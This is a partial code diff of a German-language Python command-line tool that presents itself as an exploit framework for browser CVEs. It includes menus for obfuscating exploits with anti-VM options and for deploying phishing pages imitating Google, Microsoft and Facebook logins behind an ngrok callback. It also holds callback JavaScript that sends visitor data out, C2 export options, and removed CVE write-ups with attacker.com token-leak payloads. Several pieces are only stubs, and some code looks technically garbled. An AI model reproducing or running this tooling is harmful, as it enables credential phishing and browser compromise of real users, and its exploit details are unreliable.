  print(f" {Colors.GREEN}Externe URL:{Colors.RESET} {ngrok_url}")
@@ -730,90 +1228,73 @@ Invoke-Expression $data
  Obfuskiert den Exploit
  """
  self._clear()
- self._draw_box(80, f"EXPLOIT OBFUSKIEREN - {self.cve_id.upper()}")
+ self._draw_box(80, f"EXPLOIT OBFUSKIEREN - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Wählen Sie den zu obfuskierenden Exploit-Typ:{Colors.RESET}\n")
  
- exploit_types = {
- "1": ("PowerShell-Script", "ps1"),
- "2": ("Ausführbare Datei", "exe"),
- "3": ("Python-Script", "py"),
- "4": ("JavaScript-Code", "js"),
- "5": ("HTML-Exploit", "html"),
- "6": ("C/C++-Quellcode", "c")
- }
- 
- for key, (name, _) in exploit_types.items():
- print(f" {key}) {name}")
+ sys.stdout.write("\n".join(f" {key}) {name}" for key, (name, _) in _EXPLOIT_TYPES.items()) + "\n")
  
  choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Exploit-Typ: {Colors.RESET}")
  
- if choice not in exploit_types:
- print(f"\n{Colors.RED}[!] Ungültige Auswahl.{Colors.RESET}")
+ if choice not in _EXPLOIT_TYPES:
+ print(f"\n{_ERR}Ungültige Auswahl.{Colors.RESET}")
  time.sleep(1)
  return
  
- exploit_name, extension = exploit_types[choice]
+ exploit_name, extension = _EXPLOIT_TYPES[choice]
  
  # Obfuskierungslevel
  print(f"\n{Colors.BRIGHT_BLUE}Obfuskierungslevel:{Colors.RESET}")
- obfuscation_levels = {
- "1": "Niedrig - Grundlegende Obfuskierung",
- "2": "Mittel - Erweiterte Obfuskierung",
- "3": "Hoch - Vollständige Obfuskierung mit Anti-VM"
- }
- for key, level in obfuscation_levels.items():
- print(f" {key}) {level}")
+ sys.stdout.write("\n".join(f" {key}) {level}" for key, level in _OBFUSCATION_LEVELS.items()) + "\n")
  
  obfuscation_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Obfuskierungslevel [2]: {Colors.RESET}")
- obfuscation = obfuscation_choice if obfuscation_choice in ["1", "2", "3"] else "2"
+ obfuscation = obfuscation_choice if obfuscation_choice in _OBFUSCATION_LEVELS else "2"
  
  # Eingabedatei
  input_file = input(f"\n{Colors.BRIGHT_CYAN}Pfad zur Eingabedatei: {Colors.RESET}")
  if not input_file:
- input_file = os.path.join(PathUtils.get_output_dir(), self.cve_id, f"payload.{extension}")
+ input_file = self._payload_path(extension)
  
  if not os.path.exists(input_file):
- print(f"\n{Colors.RED}[!] Eingabedatei existiert nicht: {input_file}{Colors.RESET}")
+ print(f"\n{_ERR}Eingabedatei existiert nicht: {input_file}{Colors.RESET}")
  time.sleep(1)
  return
  
  # Ausgabedatei
- output_dir = os.path.join(PathUtils.get_output_dir(), self.cve_id)
- PathUtils.ensure_dir_exists(output_dir)
- output_file = os.path.join(output_dir, f"obfuscated_payload.{extension}")
+ output_file = self._payload_path(extension, "obfuscated_payload")
  
- print(f"\n{Colors.CYAN}[*] Obfuskiere {exploit_name} mit Level {obfuscation}...{Colors.RESET}")
+ print(f"\n{_INFO}Obfuskiere {exploit_name} mit Level {obfuscation}...{Colors.RESET}")
  
  # Hier würde die eigentliche Obfuskierung implementiert werden
  if extension == "ps1":
- print(f"{Colors.BLUE}[+] Wende PowerShell-Obfuskierung an...{Colors.RESET}")
- time.sleep(2)
+ print(f"{_STEP}Wende PowerShell-Obfuskierung an...{Colors.RESET}")
+ self._progress_pause(2)
  elif extension == "exe":
- print(f"{Colors.BLUE}[+] Wende OLLVM-Obfuskierung an...{Colors.RESET}")
- time.sleep(3)
+ print(f"{_STEP}Wende OLLVM-Obfuskierung an...{Colors.RESET}")
+ self._progress_pause(3)
  elif extension == "py":
- print(f"{Colors.BLUE}[+] Wende Python-Obfuskierung an...{Colors.RESET}")
- time.sleep(2)
+ print(f"{_STEP}Wende Python-Obfuskierung an...{Colors.RESET}")
+ self._progress_pause(2)
  elif extension == "js" or extension == "html":
- print(f"{Colors.BLUE}[+] Wende JavaScript-Obfuskierung an...{Colors.RESET}")
- time.sleep(2)
+ print(f"{_STEP}Wende JavaScript-Obfuskierung an...{Colors.RESET}")
+ self._progress_pause(2)
  elif extension == "c":
- print(f"{Colors.BLUE}[+] Wende C/C++-Obfuskierung mit OLLVM an...{Colors.RESET}")
- time.sleep(3)
- 
- print(f"{Colors.GREEN}[] Obfuskierung abgeschlossen{Colors.RESET}")
- print(f"\n{Colors.BRIGHT_WHITE}Obfuskierungsergebnis:{Colors.RESET}")
- print(f" {Colors.GREEN}Eingabedatei:{Colors.RESET} {input_file}")
- print(f" {Colors.GREEN}Ausgabedatei:{Colors.RESET} {output_file}")
- print(f" {Colors.GREEN}Obfuskierungslevel:{Colors.RESET} {obfuscation}")
+ print(f"{_STEP}Wende C/C++-Obfuskierung mit OLLVM an...{Colors.RESET}")
+ self._progress_pause(3)
  
  # Beispielhafte Größenänderung
- original_size = os.path.getsize(input_file)
- obfuscated_size = original_size * (1 + int(obfuscation) * 0.5) # Beispielhafte Größenzunahme
- 
- print(f" {Colors.GREEN}Originalgröße:{Colors.RESET} {Utils.format_bytes(original_size)}")
- print(f" {Colors.GREEN}Obfuskierte Größe:{Colors.RESET} {Utils.format_bytes(obfuscated_size)}")
+ original_size = os.stat(input_file).st_size
+ obfuscated_size = original_size * (2 + int(obfuscation)) // 2 # Beispielhafte Größenzunahme
+ 
+ _emit(
+ f"{_OK}Obfuskierung abgeschlossen{Colors.RESET}",
+ f"\n{Colors.BRIGHT_WHITE}Obfuskierungsergebnis:{Colors.RESET}",
+ f" {Colors.GREEN}Eingabedatei:{Colors.RESET} {input_file}",
+ f" {Colors.GREEN}Ausgabedatei:{Colors.RESET} {output_file}",
+ f" {Colors.GREEN}Obfuskierungslevel:{Colors.RESET} {obfuscation}",
+ f" {Colors.GREEN}Originalgröße:{Colors.RESET} {Utils.format_bytes(original_size)}",
+ f" {Colors.GREEN}Obfuskierte Größe:{Colors.RESET} {Utils.format_bytes(obfuscated_size)}"
+ )
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -822,40 +1303,31 @@ Invoke-Expression $data
  Deploy phishing website with embedded exploit
  """
  self._clear()
- self._draw_box(80, f"PHISHING-WEBSITE BEREITSTELLEN - {self.cve_id.upper()}")
+ self._draw_box(80, f"PHISHING-WEBSITE BEREITSTELLEN - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Phishing-Website mit Exploit-Integration{Colors.RESET}\n")
  
  # Template selection
  print(f"{Colors.BRIGHT_BLUE}Wählen Sie ein Phishing-Template:{Colors.RESET}")
- templates = {
- "1": ("Google Login", "google"),
- "2": ("Microsoft Login", "microsoft"),
- "3": ("Facebook Login", "facebook"),
- "4": ("Generic Portal", "generic"),
- "5": ("Document Viewer", "document")
- }
- 
- for key, (name, _) in templates.items():
- print(f" {key}) {name}")
+ sys.stdout.write("\n".join(f" {key}) {name}" for key, (name, _) in _PHISHING_TEMPLATES.items()) + "\n")
  
  choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Template [1]: {Colors.RESET}")
- template_name, template_key = templates.get(choice, templates["1"])
+ template_name, template_key = _PHISHING_TEMPLATES.get(choice, _PHISHING_TEMPLATES["1"])
  
  # Port configuration
  port = input(f"\n{Colors.BRIGHT_CYAN}Port für Phishing-Server [8080]: {Colors.RESET}")
- port = int(port) if port else 8080
+ port = _parse_port(port, 8080)
  
  # Get callback URL
  use_ngrok = input(f"\n{Colors.BRIGHT_CYAN}Ngrok für externe Erreichbarkeit verwenden? [J/n]: {Colors.RESET}")
- use_ngrok = use_ngrok.lower() not in ['n', 'nein', 'no']
+ use_ngrok = use_ngrok.casefold() not in _NO
  
  if use_ngrok:
  callback_url = self._get_ngrok_url()
  else:
- callback_url = f"http://{Utils.get_ip_address()}:{port}"
+ callback_url = f"http://{_local_ip()}:{port}"
  
- print(f"\n{Colors.CYAN}[*] Generiere Phishing-Website...{Colors.RESET}")
+ print(f"\n{_INFO}Generiere Phishing-Website...{Colors.RESET}")
  
  try:
  # Import phishing generator
@@ -864,32 +1336,24 @@ Invoke-Expression $data
  
  # Load exploit payload
  exploit_params = {
- 'kali_ip': Utils.get_ip_address(),
+ 'kali_ip': _local_ip(),
  'port': port,
- 'callback_url': callback_url,
- 'target_url': 'http://target.local'
- }
- 
- # Get exploit JavaScript
- exploit_result = self._execute_cve_exploit(exploit_params)
- 
- if exploit_result.get('success'):
- # Default exploit JavaScript if not provided
- exploit_js = exploit_result.get('javascript_payload', f"""
- function runExploit() {{
- console.log('[{self.cve_id.upper()}] Exploit triggered');
- // Exploit code would be injected here
- fetch('{callback_url}/exploit-trigger', {{
- method: 'POST',
- headers: {{'Content-Type': 'application/json'}},
- body: JSON.stringify({{
- exploit: '{self.cve_id}',
- timestamp: new Date().toISOString(),
- userAgent: navigator.userAgent
- }})
- }});
- }}
- """)
+ 'callback_url': callback_url,
+ 'target_url': 'http://target.local'
+ }
+ 
+ # Get exploit JavaScript
+ exploit_result = self._execute_cve_exploit(exploit_params)
+ 
+ if exploit_result.get('success'):
+ # Default exploit JavaScript if not provided
+ exploit_js = exploit_result.get('javascript_payload')
+ if exploit_js is None:
+ exploit_js = _EXPLOIT_JS_TEMPLATE.format_map({
+ "cve_upper": self._cve_upper,
+ "callback_url": callback_url,
+ "cve": self.cve_id
+ })
  else:
  exploit_js = "console.log('Exploit payload not available');"
  
@@ -902,32 +1366,34 @@ Invoke-Expression $data
  )
  
  if result['success']:
- print(f"{Colors.GREEN}[] Phishing-Website erfolgreich generiert!{Colors.RESET}")
- print(f"\n{Colors.BRIGHT_WHITE}Bereitstellungsinformationen:{Colors.RESET}")
- print(f" {Colors.GREEN}Datei:{Colors.RESET} {result['filepath']}")
- print(f" {Colors.GREEN}URL:{Colors.RESET} {result['url']}")
- print(f" {Colors.GREEN}Server-Skript:{Colors.RESET} {result['server_script']}")
+ print(f"{_OK}Phishing-Website erfolgreich generiert!{Colors.RESET}")
+ lines = [
+ f"\n{Colors.BRIGHT_WHITE}Bereitstellungsinformationen:{Colors.RESET}",
+ f" {Colors.GREEN}Datei:{Colors.RESET} {result['filepath']}",
+ f" {Colors.GREEN}URL:{Colors.RESET} {result['url']}",
+ f" {Colors.GREEN}Server-Skript:{Colors.RESET} {result['server_script']}"
+ ]
  
  if use_ngrok:
- print(f" {Colors.GREEN}Externe URL:{Colors.RESET} {callback_url}")
+ lines.append(f" {Colors.GREEN}Externe URL:{Colors.RESET} {callback_url}")
  
- print(f"\n{Colors.BRIGHT_YELLOW}Anweisungen:{Colors.RESET}")
- for instruction in result['instructions']:
- print(f" {Colors.YELLOW}• {instruction}{Colors.RESET}")
+ lines.append(f"\n{Colors.BRIGHT_YELLOW}Anweisungen:{Colors.RESET}")
+ lines.extend(f" {Colors.YELLOW}• {instruction}{Colors.RESET}" for instruction in result['instructions'])
+ _emit(*lines)
  
  # Option to start server immediately
  start_now = input(f"\n{Colors.BRIGHT_CYAN}Server jetzt starten? [J/n]: {Colors.RESET}")
- if start_now.lower() not in ['n', 'nein', 'no']:
- print(f"\n{Colors.CYAN}[*] Starte Phishing-Server auf Port {port}...{Colors.RESET}")
- print(f"{Colors.YELLOW}[!] Drücken Sie Ctrl+C zum Beenden{Colors.RESET}")
+ if start_now.casefold() not in _NO:
+ print(f"\n{_INFO}Starte Phishing-Server auf Port {port}...{Colors.RESET}")
+ print(f"{_WARN}Drücken Sie Ctrl+C zum Beenden{Colors.RESET}")
  subprocess.Popen([sys.executable, result['server_script']])
  time.sleep(2)
- print(f"\n{Colors.GREEN}[] Server läuft: {result['url']}{Colors.RESET}")
+ print(f"\n{_OK}Server läuft: {result['url']}{Colors.RESET}")
  else:
- print(f"{Colors.RED}[!] Fehler beim Generieren der Phishing-Website: {result.get('error')}{Colors.RESET}")
+ print(f"{_ERR}Fehler beim Generieren der Phishing-Website: {result.get('error')}{Colors.RESET}")
  
  except Exception as e:
- print(f"{Colors.RED}[!] Fehler: {str(e)}{Colors.RESET}")
+ print(f"{_ERR}Fehler: {str(e)}{Colors.RESET}")
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -936,42 +1402,29 @@ Invoke-Expression $data
  Testet den Exploit in einer Simulationsumgebung
  """
  self._clear()
- self._draw_box(80, f"EXPLOIT TESTEN - {self.cve_id.upper()}")
+ self._draw_box(80, f"EXPLOIT TESTEN - {self._cve_upper}")
  
- print(f"\n{Colors.BRIGHT_WHITE}Exploit-Simulation für {self.cve_id.upper()}{Colors.RESET}\n")
- print(f"{Colors.YELLOW}[!] Hinweis: Dies ist eine Simulation und führt keinen echten Exploit aus.{Colors.RESET}")
+ print(f"\n{Colors.BRIGHT_WHITE}Exploit-Simulation für {self._cve_upper}{Colors.RESET}\n")
+ print(f"{_WARN}Hinweis: Dies ist eine Simulation und führt keinen echten Exploit aus.{Colors.RESET}")
  
- print(f"\n{Colors.CYAN}[*] Initialisiere Testumgebung...{Colors.RESET}")
- time.sleep(1)
+ print(f"\n{_INFO}Initialisiere Testumgebung...{Colors.RESET}")
+ self._progress_pause(1)
  
  # Ziel-Browser
  print(f"\n{Colors.BRIGHT_BLUE}Ziel-Browser für den Test:{Colors.RESET}")
- browsers = {
- "1": "Chrome",
- "2": "Firefox",
- "3": "Edge",
- "4": "Safari"
- }
- for key, browser in browsers.items():
- print(f" {key}) {browser}")
+ sys.stdout.write("\n".join(f" {key}) {browser}" for key, browser in _BROWSERS.items()) + "\n")
  
  browser_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Ziel-Browser [1]: {Colors.RESET}")
- browser = browsers.get(browser_choice, browsers["1"])
+ browser = _BROWSERS.get(browser_choice, _BROWSERS["1"])
  
  # Ziel-Betriebssystem
  print(f"\n{Colors.BRIGHT_BLUE}Ziel-Betriebssystem für den Test:{Colors.RESET}")
- os_choices = {
- "1": "Windows 10/11",
- "2": "Linux",
- "3": "macOS"
- }
- for key, os_name in os_choices.items():
- print(f" {key}) {os_name}")
+ sys.stdout.write("\n".join(f" {key}) {os_name}" for key, os_name in _OS_CHOICES.items()) + "\n")
  
  os_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Ziel-Betriebssystem [1]: {Colors.RESET}")
- target_os = os_choices.get(os_choice, os_choices["1"])
+ target_os = _OS_CHOICES.get(os_choice, _OS_CHOICES["1"])
  
- print(f"\n{Colors.CYAN}[*] Starte Exploit-Simulation gegen {browser} auf {target_os}...{Colors.RESET}")
+ print(f"\n{_INFO}Starte Exploit-Simulation gegen {browser} auf {target_os}...{Colors.RESET}")
  
  # Simulationsschritte
  steps = [
@@ -981,46 +1434,19 @@ Invoke-Expression $data
  ("Ergebnisse analysieren", 2)
  ]
  
- for step, duration in steps:
- print(f"{Colors.BLUE}[+] {step}...{Colors.RESET}")
- time.sleep(duration)
- print(f"{Colors.GREEN}[] {step} abgeschlossen{Colors.RESET}")
+ self._run_steps(steps)
  
  # Simulationsergebnis
  print(f"\n{Colors.BRIGHT_GREEN}[] Exploit-Simulation erfolgreich abgeschlossen!{Colors.RESET}")
  
  # CVE-spezifische Ergebnisse
- if self.cve_id == "cve_2025_4664":
- print(f"\n{Colors.BRIGHT_WHITE}Simulationsergebnisse für Chrome Data Leak:{Colors.RESET}")
- print(f" {Colors.GREEN}Link-Header-Manipulation:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Referrer-Policy-Bypass:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Datenexfiltration:{Colors.RESET} 3 URLs exfiltriert")
- print(f" {Colors.GREEN}WebSocket-Verbindung:{Colors.RESET} Erfolgreich")
- 
- elif self.cve_id == "cve_2025_2783":
- print(f"\n{Colors.BRIGHT_WHITE}Simulationsergebnisse für Chrome Mojo Sandbox Escape:{Colors.RESET}")
- print(f" {Colors.GREEN}Mojo IPC Message Fuzzing:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}NodeController-Manipulation:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Handle Validation Bypass:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Sandbox Escape:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Command Execution:{Colors.RESET} Erfolgreich (calc.exe gestartet)")
- 
- elif self.cve_id == "cve_2025_2857":
- print(f"\n{Colors.BRIGHT_WHITE}Simulationsergebnisse für Firefox Sandbox Escape:{Colors.RESET}")
- print(f" {Colors.GREEN}IPDL Handle Confusion:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}DuplicateHandle() Abuse:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}PROCESS_ALL_ACCESS:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Privilege Escalation:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Command Execution:{Colors.RESET} Erfolgreich (cmd.exe gestartet)")
- 
- elif self.cve_id == "cve_2025_30397":
- print(f"\n{Colors.BRIGHT_WHITE}Simulationsergebnisse für Edge WebAssembly JIT Escape:{Colors.RESET}")
- print(f" {Colors.GREEN}TurboFan Compiler Bypass:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}WebAssembly.Table Growth:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}ArrayBuffer OOB:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}V8 Heap Corruption:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}ROP Chain Execution:{Colors.RESET} Erfolgreich")
- print(f" {Colors.GREEN}Command Execution:{Colors.RESET} Erfolgreich (powershell.exe gestartet)")
+ sim_results = _CVE_SIM_RESULTS.get(self.cve_id)
+ if sim_results:
+ title, rows = sim_results
+ _emit(
+ f"\n{Colors.BRIGHT_WHITE}Simulationsergebnisse für {title}:{Colors.RESET}",
+ *(f" {Colors.GREEN}{label}:{Colors.RESET} {outcome}" for label, outcome in rows)
+ )
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -1029,7 +1455,7 @@ Invoke-Expression $data
  Exportiert ein Exploit-Paket
  """
  self._clear()
- self._draw_box(80, f"EXPLOIT-PAKET EXPORTIEREN - {self.cve_id.upper()}")
+ self._draw_box(80, f"EXPLOIT-PAKET EXPORTIEREN - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Exportieren Sie den Exploit als vollständiges Paket{Colors.RESET}\n")
  
@@ -1043,51 +1469,24 @@ Invoke-Expression $data
  
  # Exportformat
  print(f"\n{Colors.BRIGHT_BLUE}Exportformat:{Colors.RESET}")
- export_formats = {
- "1": "ZIP-Archiv",
- "2": "TAR-Archiv",
- "3": "Ausführbares Installer-Script",
- "4": "Docker-Container"
- }
- for key, format_name in export_formats.items():
- print(f" {key}) {format_name}")
+ sys.stdout.write("\n".join(f" {key}) {format_name}" for key, (format_name, _) in _EXPORT_FORMATS.items()) + "\n")
  
  format_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Exportformat [1]: {Colors.RESET}")
- export_format = export_formats.get(format_choice, export_formats["1"])
+ if format_choice not in _EXPORT_FORMATS:
+ format_choice = "1"
+ export_format, format_extension = _EXPORT_FORMATS[format_choice]
  
  # Zu exportierende Komponenten
  print(f"\n{Colors.BRIGHT_BLUE}Zu exportierende Komponenten:{Colors.RESET}")
- components = {
- "1": "Exploit-Code",
- "2": "Payloads",
- "3": "C2-Konfiguration",
- "4": "Dokumentation",
- "5": "Alle Komponenten"
- }
- for key, component in components.items():
- print(f" {key}) {component}")
+ sys.stdout.write("\n".join(f" {key}) {component}" for key, component in _EXPORT_COMPONENTS.items()) + "\n")
  
  component_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie die zu exportierenden Komponenten [5]: {Colors.RESET}")
- selected_components = components.get(component_choice, components["5"])
+ selected_components = _EXPORT_COMPONENTS.get(component_choice, _EXPORT_COMPONENTS["5"])
  
  # Ausgabepfad
- output_dir = os.path.join(PathUtils.get_output_dir(), self.cve_id)
- PathUtils.ensure_dir_exists(output_dir)
- 
- if format_choice == "1":
- output_file = os.path.join(output_dir, f"{package_name}.zip")
- format_extension = "zip"
- elif format_choice == "2":
- output_file = os.path.join(output_dir, f"{package_name}.tar.gz")
- format_extension = "tar.gz"
- elif format_choice == "3":
- output_file = os.path.join(output_dir, f"{package_name}.sh")
- format_extension = "sh"
- elif format_choice == "4":
- output_file = os.path.join(output_dir, f"{package_name}.tar")
- format_extension = "tar"
- 
- print(f"\n{Colors.CYAN}[*] Erstelle Exploit-Paket...{Colors.RESET}")
+ output_file = self._payload_path(format_extension, package_name)
+ 
+ print(f"\n{_INFO}Erstelle Exploit-Paket...{Colors.RESET}")
  
  # Hier würde die eigentliche Paketierung implementiert werden
  steps = [
@@ -1097,21 +1496,20 @@ Invoke-Expression $data
  (f"{export_format} erstellen", 2)
  ]
  
- for step, duration in steps:
- print(f"{Colors.BLUE}[+] {step}...{Colors.RESET}")
- time.sleep(duration)
- print(f"{Colors.GREEN}[] {step} abgeschlossen{Colors.RESET}")
- 
- print(f"\n{Colors.BRIGHT_GREEN}[] Exploit-Paket erfolgreich erstellt!{Colors.RESET}")
- print(f"\n{Colors.BRIGHT_WHITE}Paketinformationen:{Colors.RESET}")
- print(f" {Colors.GREEN}Name:{Colors.RESET} {package_name}")
- print(f" {Colors.GREEN}Format:{Colors.RESET} {export_format}")
- print(f" {Colors.GREEN}Komponenten:{Colors.RESET} {selected_components}")
- print(f" {Colors.GREEN}Ausgabedatei:{Colors.RESET} {output_file}")
+ self._run_steps(steps)
  
  # Beispielhafte Größe
  package_size = 1024 * 1024 * (2 + int(format_choice)) # Beispielhafte Größe
- print(f" {Colors.GREEN}Größe:{Colors.RESET} {Utils.format_bytes(package_size)}")
+ 
+ _emit(
+ f"\n{Colors.BRIGHT_GREEN}[] Exploit-Paket erfolgreich erstellt!{Colors.RESET}",
+ f"\n{Colors.BRIGHT_WHITE}Paketinformationen:{Colors.RESET}",
+ f" {Colors.GREEN}Name:{Colors.RESET} {package_name}",
+ f" {Colors.GREEN}Format:{Colors.RESET} {export_format}",
+ f" {Colors.GREEN}Komponenten:{Colors.RESET} {selected_components}",
+ f" {Colors.GREEN}Ausgabedatei:{Colors.RESET} {output_file}",
+ f" {Colors.GREEN}Größe:{Colors.RESET} {Utils.format_bytes(package_size)}"
+ )
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -1120,224 +1518,12 @@ Invoke-Expression $data
  Zeigt die Dokumentation für den Exploit an
  """
  self._clear()
- self._draw_box(80, f"EXPLOIT-DOKUMENTATION - {self.cve_id.upper()}")
+ self._draw_box(80, f"EXPLOIT-DOKUMENTATION - {self._cve_upper}")
  
  # CVE-spezifische Dokumentation
- if self.cve_id == "cve_2025_4664":
- documentation = """
-Chrome Data Leak (CVE-2025-4664)
-================================
-
-Beschreibung:
-------------
-Diese Schwachstelle betrifft den Link-Header-Parser in Chrome und ermöglicht es einem Angreifer, 
-Cross-Origin-Daten über den Referer-Header zu exfiltrieren. Die Schwachstelle liegt in der 
-fehlerhaften Implementierung der referrerpolicy-Direktive in Link-Headern.
-
-Technische Details:
------------------
-Die Schwachstelle befindet sich in der Datei components/link_header_parser/link_header_parser.cc, 
-wo die referrerpolicy-Direktive nicht korrekt validiert wird. Wenn ein Link-Header mit 
-referrerpolicy=unsafe-url gesendet wird, wird diese Policy unabhängig von der Dokumentrichtlinie 
-angewendet, was zur Offenlegung sensibler URLs führen kann.
-
-Exploit-Mechanismus:
-------------------
-1. Der Angreifer sendet eine HTML-Seite mit einem <img>-Tag, das auf eine Ressource des Angreifers verweist
-2. Der Server antwortet mit einem Link-Header, der auf eine sensible URL verweist und referrerpolicy=unsafe-url enthält
-3. Chrome führt eine Preconnect-Anfrage durch und sendet dabei die vollständige URL als Referer
-4. Der Angreifer kann die sensiblen Daten aus dem Referer-Header extrahieren
-
-Payload-Beispiel:
----------------
-```html
-<!DOCTYPE html>
-<html>
-<head>
- <title>CVE-2025-4664 Exploit</title>
-</head>
-<body>
- <img src="https://attacker.com/pixel.png">
-</body>
-</html>
-```
-
-Server-Antwort:
-```
-HTTP/1.1 200 OK
-Content-Type: image/png
-Link: <https://victim.com/oauth?token=SECRET>; rel=preconnect; referrerpolicy=unsafe-url
-```
-
-Betroffene Versionen:
--------------------
-- Chrome < 135.0.7103.112
-- Chromium-basierte Browser mit ähnlichen Versionen
-
-Gegenmaßnahmen:
--------------
-- Aktualisieren Sie Chrome auf Version 135.0.7103.112 oder höher
-- Verwenden Sie eine Content-Security-Policy mit referrer-Direktiven
-- Implementieren Sie CSRF-Tokens für sensible Operationen
-"""
- 
- elif self.cve_id == "cve_2025_2783":
- documentation = """
-Chrome Mojo Sandbox Escape (CVE-2025-2783)
-=========================================
-
-Beschreibung:
-------------
-Diese Schwachstelle betrifft das Mojo IPC-System in Chrome und ermöglicht es einem Angreifer, 
-aus der Sandbox auszubrechen und Befehle mit erhöhten Rechten auszuführen. Die Schwachstelle 
-liegt in der fehlerhaften Validierung von Mojo-Nachrichten im NodeController.
-
-Technische Details:
------------------
-Die Schwachstelle befindet sich in der Implementierung des NodeController in Chrome, der für die 
-Verwaltung von Mojo-Verbindungen zwischen Prozessen zuständig ist. Durch das Senden einer speziell 
-gestalteten Mojo-Nachricht mit einem ungültigen Header-Typ (0xBADCOFFEE) kann ein Angreifer eine 
-Typverwirrung auslösen, die zur Umgehung der Handle-Validierung führt.
-
-Exploit-Mechanismus:
-------------------
-1. Der Angreifer kompromittiert zunächst den Renderer-Prozess (z.B. durch eine separate RCE-Schwachstelle)
-2. Der Angreifer sendet eine manipulierte Mojo-Nachricht an den NodeController
-3. Die Nachricht enthält einen ungültigen Header-Typ, der die Validierung umgeht
-4. Der NodeController verarbeitet die Nachricht in einem privilegierten Kontext
-5. Der Angreifer kann Handles duplizieren und auf privilegierte Ressourcen zugreifen
-6. Post-Exploitation-Befehle können mit erhöhten Rechten ausgeführt werden
-
-Payload-Beispiel:
----------------
-```cpp
-// Exploit-Code-Snippet
-mojo::Message message;
-message.set_interface_name("mojo::core::NodeController");
-message.set_header({
- .version = 0x41, 
- .type = 0xBADCOFFEE, // Ungültiger Nachrichtentyp
- .flags = MOJO_MESSAGE_FLAG_HAS_CONTEXT
-});
-```
-
-Betroffene Versionen:
--------------------
-- Chrome < 135.0.7103.112
-- Chromium-basierte Browser mit ähnlichen Versionen
-
-Gegenmaßnahmen:
--------------
-- Aktualisieren Sie Chrome auf Version 135.0.7103.112 oder höher
-- Aktivieren Sie Site Isolation und andere Sicherheitsfeatures in Chrome
-- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
-"""
- 
- elif self.cve_id == "cve_2025_2857":
- documentation = """
-Firefox Sandbox Escape (CVE-2025-2857)
-=====================================
-
-Beschreibung:
-------------
-Diese Schwachstelle betrifft das IPDL-System (Inter-Process Communication Protocol Definition Language) 
-in Firefox und ermöglicht es einem Angreifer, aus der Sandbox auszubrechen und Prozesse mit 
-PROCESS_ALL_ACCESS-Rechten zu manipulieren. Die Schwachstelle liegt in der fehlerhaften Validierung 
-von Prozess-Handles.
-
-Technische Details:
------------------
-Die Schwachstelle befindet sich in der Implementierung des IPDL-Systems in Firefox, das für die 
-Kommunikation zwischen Prozessen zuständig ist. Wenn ein kompromittierter Content-Prozess sein 
-eigenes Handle über DuplicateHandle() sendet, interpretiert der übergeordnete Prozess es fälschlicherweise 
-als einen eingeschränkten Handle-Typ, was zur Umgehung der Sicherheitsvalidierung führt.
-
-Exploit-Mechanismus:
-------------------
-1. Der Angreifer kompromittiert zunächst den Content-Prozess (z.B. durch eine separate RCE-Schwachstelle)
-2. Der Angreifer sendet das eigene Prozess-Handle über den IPDL-Kanal
-3. Der übergeordnete Prozess interpretiert das Handle falsch und gewährt PROCESS_ALL_ACCESS-Rechte
-4. Der Angreifer kann nun auf privilegierte Ressourcen zugreifen und Befehle mit erhöhten Rechten ausführen
-
-Payload-Beispiel:
----------------
-```rust
-// Exploit-Code-Snippet
-let malicious_handle = unsafe { GetCurrentProcess() };
-ipc_channel.send(malicious_handle);
-
-// Fehlerhafte Validierung im übergeordneten Prozess
-fn on_ipc_message(handle: RawHandle) {
- // Fehlende SEHOP-Validierung
- let target_process = OpenProcess(PROCESS_ALL_ACCESS, handle);
-}
-```
-
-Betroffene Versionen:
--------------------
-- Firefox < 135.0.3
-- Firefox ESR < 128.15.0
-
-Gegenmaßnahmen:
--------------
-- Aktualisieren Sie Firefox auf Version 135.0.3 oder höher
-- Aktivieren Sie die Content-Sandbox und andere Sicherheitsfeatures in Firefox
-- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
-"""
- 
- elif self.cve_id == "cve_2025_30397":
- documentation = """
-Edge WebAssembly JIT Escape (CVE-2025-30397)
-==========================================
-
-Beschreibung:
-------------
-Diese Schwachstelle betrifft den WebAssembly-JIT-Compiler in Microsoft Edge und ermöglicht es einem 
-Angreifer, Bounds-Checks zu umgehen und Heap-Corruption zu verursachen. Die Schwachstelle liegt in 
-der fehlerhaften Optimierung von WebAssembly-Code durch den TurboFan-Compiler.
-
-Technische Details:
------------------
-Die Schwachstelle befindet sich im TurboFan-Compiler von V8, der in Microsoft Edge verwendet wird. 
-Bei der Optimierung von WebAssembly-Code werden Bounds-Checks für ArrayBuffer-Zugriffe fälschlicherweise 
-entfernt, wenn WebAssembly.Table-Wachstumsoperationen verwendet werden. Dies ermöglicht Out-of-Bounds-Zugriffe 
-auf angrenzende V8-Heap-Strukturen.
-
